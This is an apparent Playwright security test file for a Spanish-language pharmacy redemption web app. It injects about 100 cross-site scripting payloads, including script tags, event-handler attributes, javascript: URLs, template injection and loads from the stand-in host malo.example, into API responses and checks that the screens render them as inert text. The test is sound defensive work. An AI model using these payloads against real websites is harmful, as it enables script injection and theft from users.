import type { Page } from '@playwright/test';
import { anioDe } from '../../src/domain/calendario.ts';
import { paths } from '../../src/paths.ts';
import { expect, resetDemo, test } from '../support/browser.ts';
import { detalle, listas, PENDIENTES } from './dashboard/pantalla.ts';
import { dia, escanear, ingresar } from './canje/pantalla.ts';

// Every free text that a screen shows comes hostile, in 100 ways: shown as the letters they are.

const RUN = 'window.ejecutado=1';
const bases = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//malo.example/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.ejecutado=1</script>"></iframe>`,
  `<iframe src=javascript:parent.ejecutado=1></iframe>`,
  `<a href="javascript:${RUN}">aquí</a>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<math><mtext><style><img src=x onerror=${RUN}></style></mtext></math>`,
  `<template><script>${RUN}</script></template>`,
  `<style>*{background:url(//malo.example/x)}</style>`,
  `<link rel=stylesheet href=//malo.example/x.css>`,
  `<base href=//malo.example/>`,
  `<meta http-equiv=refresh content="0;url=//malo.example/">`,
  `<form action=//malo.example/><button>Enviar</button></form>`,
  `<object data=javascript:${RUN}></object>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `javascript:${RUN}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `=HYPERLINK("http://malo.example","x")`,
  `\u202e<img src=x onerror=${RUN}>`,
  `<astro-island uid=x component-url=//malo.example/x.js client=load></astro-island>`,
];
const wraps = [
  (one: string) => one,
  (one: string) => `"'>${one}`,
  (one: string) => `</td></script>${one}`,
];
const HOSTILES = wraps
  .flatMap((wrap) => bases.map(wrap))
  .slice(0, 100)
  .map((text, i) => `«${i}»${text}`);
const TODOS = HOSTILES.join(' ');

/** Fields that hold what somebody once typed. */
const LIBRES = new Set([
  ...[
    'Nombre',
    'NombreCadena',
    'Telefono',
    'Detalles',
    'Especialidad',
    'Descripcion',
    'distribuidor',
  ],
  ...['PrimerApellido', 'SegundoApellido', 'PromocionNombre', 'PacienteNombre', 'PacienteApellido'],
  ...['PacienteSegundoApellido', 'Cadena', 'PuntoVenta', 'Producto', 'Paciente', 'Presentacion'],
  ...[
    'Farmacia',
    'Observaciones',
    'NumeroFactura',
    'factura',
    'usuario',
    'FarmaciaNombre',
    'Marca',
  ],
  ...['NombreCadena', 'PtoVenta', 'Facturas', 'Medico', 'Distribuidor', 'RegistradoPor', 'Motivo'],
  ...['Usuario', 'Mensaje', 'detail', 'Texto'],
]);

/** The answer with every free text hostile; a list becomes 100 rows, each with one of them. */
function hostil(value: unknown, text = TODOS): unknown {
  if (Array.isArray(value)) {
    const [first] = value as unknown[];
    if (typeof first !== 'object' || first === null) return value;
    if (text !== TODOS) return value.map((one: unknown) => hostil(one, text));
    return HOSTILES.map((one, i) => {
      const row = hostil(first, one) as Record<string, unknown>;
      // The balance has one line for each promotion.
      for (const id of 'PromocionNombre' in row ? ['PromocionId'] : ['Id', 'id']) {
        if (typeof row[id] === 'number' && i > 0) row[id] += i * 1_000;
      }
      return row;
    });
  }
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, part]: [string, unknown]) => [
      name,
      LIBRES.has(name) && (typeof part === 'string' || part === null) ? text : hostil(part, text),
    ]),
  );
}

test.beforeAll(resetDemo);
test.beforeEach(async ({ page, query }) => {
  await query('delete from intentos');
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(window, { violaciones: seen });
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push(`${event.violatedDirective} ${event.blockedURI}`);
    });
  });
  page.on('dialog', (dialog) => {
    throw new Error(`A dialog opened: ${dialog.type()}`);
  });
  await page.route(/\/api\/(?!auth\/)/, async (route) => {
    const response = await route.fetch();
    const body = await response.text();
    if (!/json/.test(response.headers()['content-type'] ?? '')) return route.fulfill({ response });
    return route.fulfill({ response, json: hostil(JSON.parse(body)) });
  });
});

/** Waits until the screen shows the texts, and looks at what they did. */
async function expectOnlyText(page: Page, atLeast = 100): Promise<void> {
  await expect
    .poll(
      async () => new Set(((await page.locator('body').textContent()) ?? '').match(/«\d+»/g)).size,
    )
    .toBeGreaterThanOrEqual(atLeast);
  const found = await page.evaluate(() => ({
    ran: 'ejecutado' in window,
    violations: (window as unknown as { violaciones: string[] }).violaciones,
    foreign: document.querySelectorAll(
      // Astro's own islands have templates and links; these are nobody's.
      ':is(iframe, object, embed, base, math, img[src="x"], [onerror], [onload], [onfocus], [ontoggle], [src*="malo.example"], [href*="malo.example"], [action*="malo.example"], [href^="javascript:"])',
    ).length,
  }));
  expect(found).toEqual({ ran: false, violations: [], foreign: 0 });
}

for (const path of [
  paths.medicos,
  paths.farmaciasAfiliadas,
  paths.farmaciasAfiliadasPacientes,
  paths.productosRecambio,
]) {
  test(`${path} shows them as letters [V1.2.1 V1.2.3 V3.2.2]`, async ({ page }) => {
    await page.goto(path);
    await expectOnlyText(page);
  });
}

test('the balance shows them as letters', async ({ page }) => {
  await page.goto(paths.consultarSaldo);
  await page.getByLabel('Número de tarjeta o de identificación').fill('CR100000011');
  await page.getByRole('button', { name: 'Consultar Saldo' }).click();
  await expectOnlyText(page);
});

test('the redemption shows them as letters: card, doctor, promotions, a refusal', async ({
  page,
  expectedErrors,
}) => {
  await page.goto('/farmacias/canje');
  await ingresar(page, 'CR-F001');
  await escanear(page.getByLabel('Tarjeta del paciente'), 'CR100000014');
  await expect(page.getByRole('button', { name: 'Corregir la tarjeta' })).toBeVisible();
  await escanear(page.getByLabel('Código de médico'), 'CR-M001');
  await expect(page.getByRole('button', { name: 'Corregir el médico' })).toBeVisible();
  await expectOnlyText(page);
  await page.getByRole('button', { name: 'Corregir el médico' }).click();
  expectedErrors.push(/status of 404/);
  await escanear(page.getByLabel('Código de médico'), 'CR-M999');
  await expect(page.getByRole('alertdialog')).toContainText('«99»');
  await expectOnlyText(page);
});

test('the pre-registration shows them as letters', async ({ page }) => {
  await page.goto('/farmacias/preregistro');
  await ingresar(page, 'CR-F001');
  await escanear(page.getByLabel('Tarjeta del paciente'), 'CR100000014');
  await expect(page.getByRole('button', { name: 'Corregir la tarjeta' })).toBeVisible();
  await page.getByLabel('Promoción', { exact: true }).selectOption({ index: 1 });
  await page.getByRole('button', { name: 'Cargar Facturas' }).click();
  await expect(page.getByRole('table')).toContainText('«99»');
  await expectOnlyText(page);
});

test('lists, detail, search and report show them as letters', async ({ page, query }) => {
  const [pendiente] = await query<{ codigo: string }>(PENDIENTES);
  const codigo = pendiente?.codigo ?? '';
  await page.goto(listas.pendientes);
  await ingresar(page, 'operador.cr');
  await expect(page).toHaveURL(listas.pendientes);
  for (const address of [...Object.values(listas), detalle(codigo)]) {
    await page.goto(address);
    await expectOnlyText(page);
  }
  await page.goto('/dashboard/busqueda-canjes');
  await page.getByLabel('Código de Confirmación').fill(codigo);
  await page.getByRole('button', { name: 'Filtrar Reporte' }).click();
  await expectOnlyText(page);
});

test('the report shows them as letters', async ({ page }) => {
  const [enero] = anioDe(dia(0));
  await page.goto(`/dashboard/reporte-canjes?desde=${enero}&hasta=${dia(0)}&farmacia=todas`);
  await ingresar(page, 'CR-F001');
  await expectOnlyText(page);
});
